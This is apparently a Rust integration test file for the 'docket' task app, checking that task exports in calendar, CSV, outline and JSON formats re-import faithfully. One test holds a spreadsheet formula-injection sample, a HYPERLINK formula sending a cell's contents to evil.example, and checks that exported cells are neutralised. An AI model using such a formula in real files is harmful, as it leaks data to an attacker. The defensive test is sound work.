//! Files of tasks: what goes out comes in again.

use super::people::{auth, person};
use super::*;
use docket::chat::server::Chat;
use docket::export::Exporter;
use docket::feed::server::Feeds;
use docket::id::UserId;
use docket::model::offline::Offline;
use docket::oauth::server::OAuth;
use docket::tasks::file::Format;
use docket::tasks::server::{Fitted, ImportChoice, ImportStage, Tasks};
use docket::tasks::{Task, server};
use docket::timestamp::Timestamp;
use futures::TryStreamExt;
use serde_json::{Value, json};
use std::sync::Arc;

const NOW: &str = "2026-11-28T11:00:00.000Z";
const FORMATS: [Format; 4] = [Format::Calendar, Format::Table, Format::Outline, Format::Json];

struct World {
    db: Db,
    tasks: Tasks,
    exporter: Exporter,
}

impl World {
    fn new(db: &Db) -> Self {
        let clock = Clock::adjustable();
        let now = Timestamp::parse(NOW).unwrap();
        clock
            .advance(time::Duration::milliseconds(now.unix_milliseconds() - clock.now().unix_milliseconds()));
        let tasks = Tasks::new(db.clone(), clock.clone());
        let secret = SecretString::from("a secret of at least thirty-two characters");
        let base = "http://localhost".parse().unwrap();
        let oauth = OAuth::new(db.clone(), secret, &base, clock.clone(), Random::system());
        let chat = Chat::new(db.clone(), tasks.clone(), Arc::new(Offline), clock.clone());
        let feeds = Feeds::new(
            db.clone(),
            auth(db),
            tasks.clone(),
            clock.clone(),
            Random::system(),
            "http://localhost",
        );
        let exporter = Exporter::new(db.clone(), auth(db), oauth, tasks.clone(), chat, feeds, clock);
        Self { db: db.clone(), tasks, exporter }
    }

    async fn person(&self, name: &str) -> UserId {
        let user = person(&self.db, name).await;
        self.tasks.set_time_zone(&user, "Europe/Berlin", true).await.unwrap();
        user
    }

    async fn export(&self, user: &UserId, format: Format) -> String {
        self.exporter.tasks(user, format).unwrap().try_collect::<Vec<String>>().await.unwrap().concat()
    }

    /// The tasks of a person in the order of their exports.
    async fn all(&self, user: &UserId) -> Vec<Task> {
        let order = self.tasks.order(user).await.unwrap();
        self.tasks.in_order(user, &order).await.unwrap()
    }

    async fn import(&self, user: &UserId, name: &str, content: String) -> Vec<Fitted> {
        let file = self.tasks.keep_file(user, name, content.into_bytes()).await.unwrap();
        let ImportStage::Waiting(preview) = self.tasks.import_stage(user, file).await.unwrap() else {
            panic!()
        };
        assert_eq!(preview.content.notes, [], "{name}");
        let choice = ImportChoice { done: true, known: true, ..ImportChoice::default() };
        let count = self.tasks.import_file(user, file, &choice).await.unwrap();
        assert_eq!(usize::try_from(count).unwrap(), preview.content.tasks.len());
        preview.content.tasks
    }
}

/// Makes random tasks in the form of the JSON export. A failing run is repeated by its seed.
struct Maker(Random);

impl Maker {
    fn below(&self, most: usize) -> usize {
        self.0.between(0.0..=(most as f64 - 0.001)) as usize
    }

    fn one<T: Copy>(&self, of: &[T]) -> T {
        of[self.below(of.len())]
    }

    fn maybe(&self) -> bool {
        self.below(2) == 0
    }

    fn words(&self, most: usize) -> String {
        const WORDS: [&str; 24] = [
            "milk",
            "#tag",
            "=1+1",
            "-x",
            "@home",
            "+5",
            "'quoted'",
            "a,b",
            "c;d",
            "\"q\"",
            "[due::",
            "2026-01-01]",
            "\\back",
            "[x]",
            "]",
            "[",
            "straße",
            "買う",
            "::",
            "*bold*",
            "a\\,b",
            "1.",
            "FREQ=DAILY",
            "N:",
        ];
        let words: Vec<&str> = (0..=self.below(most)).map(|_| self.one(&WORDS)).collect();
        words.join(" ")
    }

    fn description(&self) -> String {
        const BEGINNINGS: [&str; 9] = ["", "# ", "- [ ] ", "- ", "```", "\\", "1. [x] ", "=", "BEGIN:VTODO "];
        let lines: Vec<String> = (0..=self.below(4))
            .map(|number| match number > 0 && self.below(4) == 0 {
                true => String::new(),
                false => [self.one(&BEGINNINGS), &self.words(3)].concat(),
            })
            .collect();
        lines.join("\n").trim().to_owned()
    }

    fn task(&self, id: usize, parent: Option<usize>) -> Value {
        const RULES: [&str; 6] = [
            "FREQ=DAILY",
            "FREQ=WEEKLY;INTERVAL=2;BYDAY=MO,TH",
            "FREQ=MONTHLY;BYDAY=-1FR",
            "FREQ=YEARLY;COUNT=5",
            "FREQ=MONTHLY;BYMONTHDAY=31",
            "FREQ=DAILY;UNTIL=20281231T235959",
        ];
        let day = format!("2027-{:02}-{:02}", 1 + self.below(12), 1 + self.below(28));
        let due = match self.below(3) {
            0 => None,
            1 => Some(day.clone()),
            _ => Some(format!("{day}T{:02}:{:02}:00+01:00", self.below(24), self.one(&[0, 30, 59]))),
        };
        let mut task = json!({
            "id": id, "title": self.words(4), "completed": self.below(4) == 0,
            "created_at": format!("2026-0{}-10T08:15:30.{}Z", 1 + self.below(9), self.one(&["000", "123"])),
        });
        let fields = task.as_object_mut().unwrap();
        let mut put = |name: &str, value: Value| drop(fields.insert(name.to_owned(), value));
        if let Some(parent) = parent {
            put("parent_id", json!(parent));
        }
        if self.maybe() {
            put("description", json!(self.description()));
        }
        if self.maybe() {
            put("start", json!("2026-12-05"));
        }
        let mut reminders = vec!["2027-01-01T08:00:00+01:00"];
        if let Some(due) = &due {
            put("due", json!(due));
            reminders.extend(["-PT30M", "PT0S", "-P1D", "-P1W"]);
            if self.maybe() {
                put("repeat", json!(self.one(&RULES)));
                if self.below(3) == 0 {
                    put("repeat_from", json!("completion"));
                }
            }
        }
        if self.maybe() {
            reminders.truncate(1 + self.below(reminders.len()));
            put("reminders", json!(reminders));
        }
        if self.maybe() {
            put("priority", json!(1 + self.below(4)));
        }
        if self.maybe() {
            put(
                "tags",
                json!(
                    (0..=self.below(3))
                        .map(|n| format!("tag-{n}{}", self.one(&["", "'s", "=x", ";y"])))
                        .collect::<Vec<_>>()
                ),
            );
        }
        if self.maybe() {
            put("list", json!(self.one(&["Home", "Work, 2", "-Garden", "買い物"])));
        }
        if task["completed"] == true {
            task["completed_at"] = json!("2026-11-02T10:15:00.000Z");
        }
        task
    }

    /// `number` tasks, a third of them with sub-tasks.
    fn tasks(&self, number: usize) -> String {
        let (mut tasks, mut id) = (Vec::new(), 0);
        for _ in 0..number {
            id += 1;
            let parent = id;
            tasks.push(self.task(id, None));
            for _ in 0..if self.below(3) == 0 { 1 + self.below(3) } else { 0 } {
                id += 1;
                tasks.push(self.task(id, Some(parent)));
            }
        }
        json!({ "exported_at": NOW, "tasks": tasks }).to_string()
    }
}

/// What a format can hold of a task.
fn held(task: &Task, format: Format) -> Value {
    let mut held = json!(task);
    let fields = held.as_object_mut().unwrap();
    for name in ["id", "parent_id", "updated_at", "position", "time_zone", "repeat_start"] {
        fields.remove(name);
    }
    if format == Format::Calendar {
        for name in ["created_at", "completed_at"] {
            if let Some(Value::String(at)) = fields.get_mut(name) {
                at.truncate(19);
            }
        }
        // Days have no time, so an UNTIL of one has none.
        if task.due.as_ref().is_some_and(|due| due.time().is_none())
            && let Some(Value::String(rule)) = fields.get_mut("repeat")
        {
            *rule = rule.replace("T235959", "");
        }
    }
    held
}

#[tokio::test]
async fn what_goes_out_comes_in_again() {
    for engine in [Engine::Sqlite, Engine::Postgres] {
        let database = TestDatabase::migrated(engine).await;
        let world = World::new(&database.db);
        let seed: u64 = std::env::var("DOCKET_SEED").ok().and_then(|seed| seed.parse().ok()).unwrap_or(11);
        let ann = world.person("ann").await;
        world.import(&ann, "docket.json", Maker(Random::seeded(seed)).tasks(400)).await;
        let original = world.all(&ann).await;
        assert!(original.len() > 450, "{}", original.len());
        for format in FORMATS {
            let text = world.export(&ann, format).await;
            let other = world.person(&format!("other-{}", format.ending())).await;
            let read = world.import(&other, &format!("tasks.{}", format.ending()), text.clone()).await;
            assert_eq!(read.len(), original.len(), "{format:?}\n{text}");
            let parents: Vec<Option<usize>> = { original.iter() }
                .map(|task| original.iter().position(|above| Some(above.id) == task.parent_id))
                .collect();
            for ((before, after), parent) in original.iter().zip(&read).zip(parents) {
                assert_eq!(held(&after.task, format), held(before, format), "{format:?}, seed {seed}");
                assert_eq!(after.parent, parent, "{format:?} {}", before.title);
            }
            // And once more: the tasks that were made of the file.
            let again: Vec<Value> = world.all(&other).await.iter().map(|task| held(task, format)).collect();
            let first: Vec<Value> = original.iter().map(|task| held(task, format)).collect();
            assert_eq!(again, first, "{format:?}, seed {seed}");
        }
    }
}

#[tokio::test]
async fn spreadsheets_run_nothing() {
    let database = TestDatabase::migrated(Engine::Sqlite).await;
    let world = World::new(&database.db);
    let ann = world.person("ann").await;
    let evil = "=HYPERLINK(\"https://evil.example/\"&A1,\"x\")";
    for title in [evil, "+1", "-1", "@SUM(A1)"] {
        world.tasks.add(&ann, title, Some("=1")).await.unwrap();
    }
    let text = world.export(&ann, Format::Table).await;
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    for row in reader.records() {
        for cell in row.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
        }
    }
    let read = world.import(&ann, "a.csv", text).await;
    assert_eq!(read.iter().map(|fitted| fitted.task.title.as_str()).max(), Some("@SUM(A1)"));
    assert!(read.iter().any(|fitted| fitted.task.title == evil), "what was a formula's text is one again");
}

#[tokio::test]
async fn repeated_times_keep_their_clock() {
    let database = TestDatabase::migrated(Engine::Sqlite).await;
    let world = World::new(&database.db);
    let ann = world.person("ann").await;
    let plan: server::Plan = serde_json::from_value(json!({
        "due": "2027-03-26T09:00", "repeat": "FREQ=DAILY;COUNT=10", "reminders": ["-PT30M"]
    }))
    .unwrap();
    let edit = server::Edit::add_planned("Feed the cat", None, &plan).unwrap();
    let caller = server::Caller { user: &ann, actor: server::Actor::Person };
    let task = world.tasks.change(caller, edit).await.unwrap().task;
    world.tasks.complete(&ann, task.id, true).await.unwrap();
    let text = world.export(&ann, Format::Calendar).await.replace("\r\n ", "");
    for line in [
        "TZID:Europe/Berlin",
        "DTSTART;TZID=Europe/Berlin:20270327T090000",
        "DUE;TZID=Europe/Berlin:20270327T090000",
        // One of the ten is done.
        "RRULE:FREQ=DAILY;COUNT=9",
        "TRIGGER;RELATED=END:-PT30M",
        "X-DOCKET-REMINDER:-PT30M",
    ] {
        assert!(text.contains(&format!("{line}\r\n")), "{line}\n{text}");
    }
}

/// The days on which a task is due until it repeats no more.
async fn days_to_the_end(world: &World, user: &UserId, task: &Task) -> Vec<String> {
    let mut days = Vec::new();
    let mut task = task.clone();
    while !task.completed {
        assert!(days.len() < 20, "{days:?}");
        days.push(task.due.as_ref().unwrap().day().to_owned());
        task = world.tasks.complete(user, task.id, true).await.unwrap();
    }
    days
}

#[tokio::test]
async fn a_series_ends_on_the_same_day_wherever_it_is_read() {
    let database = TestDatabase::migrated(Engine::Sqlite).await;
    let world = World::new(&database.db);
    let ann = world.person("ann").await;
    // Each is done some times, and then perhaps moved.
    for (title, plan, done, moved) in [
        ("new", json!({ "due": "2026-11-30", "repeat": "FREQ=WEEKLY;COUNT=4" }), 0, None),
        ("moved on", json!({ "due": "2026-11-30", "repeat": "FREQ=WEEKLY;COUNT=4" }), 2, None),
        ("at a time", json!({ "due": "2026-11-30T23:30", "repeat": "FREQ=DAILY;COUNT=5" }), 3, None),
        ("the last", json!({ "due": "2026-11-30", "repeat": "FREQ=DAILY;COUNT=3" }), 2, None),
        (
            "put off",
            json!({ "due": "2026-11-30", "repeat": "FREQ=WEEKLY;BYDAY=MO;COUNT=4" }),
            1,
            Some("2026-12-09"),
        ),
        (
            "the last put off",
            json!({ "due": "2026-11-30", "repeat": "FREQ=WEEKLY;BYDAY=MO;COUNT=2" }),
            1,
            Some("2026-12-09"),
        ),
        (
            "put forward",
            json!({ "due": "2026-11-30", "repeat": "FREQ=WEEKLY;BYDAY=MO;COUNT=4" }),
            1,
            Some("2026-12-05"),
        ),
        (
            "from completion",
            json!({ "due": "2026-11-28", "repeat": "FREQ=DAILY;COUNT=5", "repeat_from": "completion" }),
            2,
            None,
        ),
        (
            "put off, from completion",
            json!({ "due": "2026-11-28", "repeat": "FREQ=DAILY;COUNT=5", "repeat_from": "completion" }),
            1,
            Some("2026-12-10"),
        ),
    ] {
        let plan: server::Plan = serde_json::from_value(plan).unwrap();
        let caller = server::Caller { user: &ann, actor: server::Actor::Person };
        let edit = server::Edit::add_planned(title, None, &plan).unwrap();
        let task = world.tasks.change(caller, edit).await.unwrap().task;
        for _ in 0..done {
            assert!(!world.tasks.complete(&ann, task.id, true).await.unwrap().completed, "{title}");
        }
        if let Some(day) = moved {
            let plan: server::Plan = serde_json::from_value(json!({ "due": day })).unwrap();
            let patch = server::Patch { plan: Some(&plan), ..server::Patch::default() };
            let edit = server::Edit::change(task.id, patch).unwrap();
            world.tasks.change(caller, edit).await.unwrap();
        }
    }
    let mut readers = Vec::new();
    for format in FORMATS {
        let text = world.export(&ann, format).await;
        let reader = world.person(&format!("reader-{}", format.ending())).await;
        world.import(&reader, &format!("tasks.{}", format.ending()), text).await;
        readers.push((format!("{format:?}"), reader));
    }
    // The tasks as REST and the export of all data have them, with the first occurrence.
    let raw = json!({ "exported_at": NOW, "tasks": world.all(&ann).await }).to_string();
    let reader = world.person("reader-raw").await;
    world.import(&reader, "docket.json", raw).await;
    readers.push(("raw".to_owned(), reader));
    for task in world.all(&ann).await {
        let days = days_to_the_end(&world, &ann, &task).await;
        for (format, reader) in &readers {
            let read = { world.all(reader).await }.into_iter().find(|read| read.title == task.title).unwrap();
            assert_eq!(days_to_the_end(&world, reader, &read).await, days, "{format}: {}", task.title);
        }
    }
}
